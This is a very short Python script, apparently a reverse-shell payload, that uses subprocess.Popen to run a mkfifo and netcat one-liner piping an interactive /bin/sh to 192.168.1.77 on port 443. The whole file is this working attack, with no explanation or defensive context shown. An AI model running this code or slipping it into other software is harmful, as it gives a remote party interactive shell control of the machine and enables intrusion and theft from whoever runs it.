#!/usr/bin/env python3

import subprocess
subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.168.1.77 443 > /tmp/f", shell=True)
